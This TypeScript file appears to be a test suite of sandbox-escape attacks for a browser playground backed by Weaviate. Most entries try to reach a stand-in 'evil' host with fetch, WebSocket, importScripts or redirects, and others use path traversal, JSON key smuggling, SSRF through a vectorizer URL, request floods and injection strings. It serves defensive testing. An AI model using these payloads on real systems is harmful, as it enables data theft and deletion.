/** Code that a reader could be talked into running. It prints GOT with whatever it should not have got. */
export interface Attack {
  name: string;
  /** `evil` is a server that must hear nothing, `site` the one that the page came from. */
  code(evil: string, site: string): string;
  /** What the run prints when the attack fails. */
  prints?: string[];
}

/** Tries something, and prints GOT with what came of it, or the kind of its failure. */
const attempt = (body: string) =>
  `try { console.log('GOT', await (async () => { ${body} })()); } catch (error) { console.log('failed', String(error).slice(0, 60)); }`;

const rest = 'http://localhost:8080';

/** A gRPC-web frame around a message of the given bytes, as code. */
const frame =
  'const frame = (bytes) => new Uint8Array([0, 0, 0, bytes.length >> 8, bytes.length & 255, ...bytes]);';
const text =
  'const text = (field, value) => [field * 8 + 2, value.length, ...new TextEncoder().encode(value)];';
const call = `const call = async (name, bytes, type = 'application/grpc-web+proto') => (await fetch('${rest}/v1/grpc-web/weaviate.v1.Weaviate/' + name, { method: 'POST', headers: { 'content-type': type, 'x-grpc-web': '1' }, body: frame(bytes) })).status;`;
const json = (method: string, path: string, body?: unknown) =>
  `const { status } = await fetch('${rest}${path}', { method: '${method}', ${body === undefined ? '' : `headers: { 'content-type': 'application/json' }, body: ${JSON.stringify(JSON.stringify(body))}`} }); if (status >= 300) throw new Error('status ' + status); return status;`;

/** Makes a collection of the page's own, behind which a foreign one could hide. */
const own = `await client.collections.create({ name: 'Mine' });`;

export const attacks: Attack[] = [
  {
    name: 'read the document of the page',
    code: () => `console.log(typeof document, typeof window, typeof parent, typeof top, typeof frames);`,
    prints: ['undefined undefined undefined undefined undefined'],
  },
  {
    name: 'read cookies',
    code: () => `console.log(typeof cookieStore, typeof document);`,
    prints: ['undefined undefined'],
  },
  {
    name: 'read what the site has stored',
    code: () =>
      attempt(
        `if (typeof localStorage !== 'undefined') return localStorage; const open = indexedDB.open('x'); await new Promise((resolve, reject) => { open.onsuccess = resolve; open.onerror = () => reject(open.error); }); return 'a database';`,
      ),
  },
  {
    name: 'read or replace the engines that the page keeps',
    code: () => attempt(`return (await caches.open('live-python')).keys();`),
  },
  {
    name: 'talk to other pages of the site',
    code: () => `new BroadcastChannel('site').postMessage('GOT'); console.log('sent');`,
    prints: ['sent'],
  },
  {
    name: 'read the key from a request',
    code: () =>
      `const own = globalThis.fetch; globalThis.fetch = (input, init) => { console.log(JSON.stringify(init?.headers)); return own(input, init); };
const again = await weaviate.connectToLocal(); console.log(JSON.stringify(await again.getConnectionDetails()));`,
  },
  {
    name: 'read the key from the messages of the page',
    code: () =>
      `const seen = []; const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');
Object.defineProperty(MessageEvent.prototype, 'data', { get() { seen.push(this.target); return get.call(this); } });
const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (...args) { seen.push(this); return post.apply(this, args); };
await client.getMeta(); console.log(seen.length);`,
    prints: ['0'],
  },
  {
    name: 'send the frame elsewhere with a secret',
    code: (evil) =>
      attempt(
        `self.location.href = '${evil}/frame'; self.location = '${evil}/frame'; throw new Error('still here');`,
      ),
  },
  {
    name: 'send the whole page elsewhere with a secret',
    code: (evil) =>
      attempt(
        `self.postMessage({ type: 'navigate', url: '${evil}' }); top.location = '${evil}/top'; return 1;`,
      ),
  },
  {
    name: 'open a window',
    code: (evil) => attempt(`return self.open('${evil}/window');`),
  },
  {
    name: 'reach another origin with fetch',
    code: (evil) => attempt(`return (await fetch('${evil}/fetch')).text();`),
  },
  {
    name: 'reach another origin with a fetch of its own',
    code: (evil) =>
      attempt(
        `const worker = new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/worker').then((r) => r.text()).then((t) => postMessage('GOT ' + t), (e) => postMessage(String(e)))"]))); return await new Promise((resolve, reject) => { worker.onmessage = ({ data }) => (data.startsWith('GOT') ? resolve(data) : reject(data)); worker.onerror = reject; setTimeout(() => reject('silence'), 3000); });`,
      ),
  },
  {
    name: 'reach another origin with XMLHttpRequest',
    code: (evil) =>
      attempt(
        `const request = new XMLHttpRequest(); request.open('GET', '${evil}/xhr', false); request.send(); return request.responseText;`,
      ),
  },
  {
    name: 'reach another origin with a WebSocket',
    code: (evil) =>
      attempt(
        `const socket = new WebSocket('${evil.replace('http', 'ws')}/socket'); return await new Promise((resolve, reject) => { socket.onopen = resolve; socket.onerror = () => reject('no socket'); });`,
      ),
  },
  {
    name: 'reach another origin with an event stream',
    code: (evil) =>
      attempt(
        `const source = new EventSource('${evil}/events'); return await new Promise((resolve, reject) => { source.onopen = resolve; source.onerror = () => reject('no stream'); });`,
      ),
  },
  {
    name: 'import code from another origin',
    code: (evil) => attempt(`return await import('${evil}/code.js');`),
  },
  {
    name: 'load a script from another origin',
    code: (evil) => attempt(`importScripts('${evil}/code.js'); return 1;`),
  },
  {
    name: 'reach the site that the page came from',
    code: (_, site) =>
      attempt(
        `const request = new XMLHttpRequest(); request.open('GET', '${site}/proof.json', false); request.send(); return request.responseText;`,
      ),
  },
  {
    name: 'reach another path of the server',
    code: () => attempt(`return (await fetch('${rest}/metrics')).status;`),
  },
  {
    name: 'reach another path through a way up',
    code: () => attempt(`return (await fetch('${rest}/v1/../metrics')).status;`),
  },
  {
    name: 'hide a way up behind percent signs',
    code: () => attempt(`return (await fetch('${rest}/v1/%2e%2e%2fmetrics')).status;`),
  },
  { name: 'start a backup', code: () => attempt(json('POST', '/v1/backups/filesystem', { id: 'x' })) },
  { name: 'make a user', code: () => attempt(json('POST', '/v1/users/db/mallory')) },
  {
    name: 'move an alias to another collection',
    code: () =>
      `${own} await client.alias.create({ alias: 'Other', collection: 'Mine' });\n${attempt(json('PUT', '/v1/aliases/Other', { class: 'Foreign' }))}`,
  },
  {
    name: 'reach a foreign collection by another name',
    code: () => attempt(json('POST', '/v1/aliases', { alias: 'Mine', class: 'Foreign' })),
  },
  {
    name: 'delete a foreign collection with the client',
    code: () => attempt(`await client.collections.delete('Foreign'); return 'deleted';`),
  },
  {
    name: 'delete a foreign collection under a small letter',
    code: () => attempt(json('DELETE', '/v1/schema/foreign')),
  },
  {
    name: 'delete a foreign collection under an encoded name',
    code: () => attempt(json('DELETE', '/v1/schema/%46oreign')),
  },
  {
    name: 'delete a foreign collection by another method',
    code: () =>
      attempt(
        `const { status } = await fetch('${rest}/v1/schema/Foreign', { headers: { 'x-http-method-override': 'DELETE' } }); const list = await (await fetch('${rest}/v1/schema')).json(); if (list.classes.some((each) => each.class === 'Foreign')) throw new Error('still there'); return status;`,
      ),
  },
  {
    name: 'delete the objects of a foreign collection',
    code: () =>
      attempt(
        `const foreign = client.collections.use('Foreign'); return await foreign.data.deleteMany(foreign.filter.byProperty('text').like('*'));`,
      ),
  },
  {
    name: 'add objects to a foreign collection',
    code: () =>
      attempt(
        `const { hasErrors } = await client.collections.use('Foreign').data.insertMany([{ text: 'mine' }]); return hasErrors;`,
      ),
  },
  {
    name: 'hide a foreign collection behind an own one in a message',
    code: () =>
      `${own} ${frame} ${text} ${call}\n${attempt(`return await call('BatchDelete', [...text(1, 'Mine'), ...text(1, 'Foreign')]);`)}`,
  },
  {
    name: 'hide a foreign collection from JSON by a large letter',
    code: () =>
      `${own} ${attempt(json('POST', '/v1/objects', { class: 'Mine', Class: 'Foreign', properties: { text: 'mine' } }))}`,
  },
  {
    name: 'hide a foreign collection from JSON by a long s',
    code: () =>
      `${own} ${attempt(json('POST', '/v1/objects', { class: 'Mine', claſs: 'Foreign', properties: { text: 'mine' } }))}`,
  },
  {
    name: 'delete the objects of a foreign collection by a long s',
    code: () =>
      `${own} ${attempt(json('DELETE', '/v1/batch/objects', { match: { class: 'Mine', claſs: 'Foreign', where: { path: ['text'], operator: 'Like', valueText: '*' } } }))}`,
  },
  {
    name: 'have the page delete a foreign collection as if it were an alias',
    code: () => {
      const again = json('POST', '/v1/aliases', { alias: '../schema/Foreign', aliaſ: 'Good', class: 'Mine' });
      return `${own} ${attempt(again)} ${attempt(again)}`;
    },
  },
  {
    name: 'have Weaviate send texts elsewhere',
    code: (evil) => {
      // The evil server by an address of which nobody has said that it is this computer.
      const inferenceUrl = evil.replace('127.0.0.1', '[::ffff:127.0.0.1]');
      const collection = {
        class: 'Mine',
        vectorizer: 'text2vec-model2vec',
        moduleConfig: { 'text2vec-model2vec': { inferenceUrl } },
      };
      return attempt(
        `await (async () => { ${json('POST', '/v1/schema', collection)} })(); return await client.collections.use('Mine').data.insert({ text: 'not yours' });`,
      );
    },
  },
  {
    name: 'hide a foreign collection in a list that the path does not use',
    code: () =>
      attempt(
        json('POST', '/v1/objects', {
          objects: [{ class: 'Mine' }],
          class: 'Foreign',
          properties: { text: 'mine' },
        }),
      ),
  },
  {
    name: 'write by another encoding of the same call',
    code: () =>
      `${frame} ${text} ${call}\n${attempt(`const status = await call('BatchDelete', text(1, 'Foreign'), 'application/json'); return status;`)}`,
  },
  {
    name: 'write by a stream',
    code: () =>
      `${frame} ${text} ${call}\n${attempt(`return await call('BatchStream', text(1, 'Foreign'));`)}`,
  },
  {
    name: 'flood the server with requests',
    code: () =>
      attempt(
        `const all = await Promise.allSettled(Array.from({ length: 500 }, () => fetch('${rest}/v1/meta'))); if (all.some(({ status }) => status === 'rejected')) throw new Error('refused'); return 'all';`,
      ),
    prints: ['failed Error: refused'],
  },
  {
    name: 'print HTML',
    code: () => `console.log('<img src=x onerror="document.title=1"><script>document.title=2</script>');`,
    prints: ['<img src=x onerror="document.title=1"><script>document.title=2</script>'],
  },
  {
    name: 'print what terminals obey',
    code: () => `console.log('\\u001b[2J\\u202egnirts\\u0007');`,
    prints: ['␛[2J\\u{202e}gnirts␇'],
  },
];
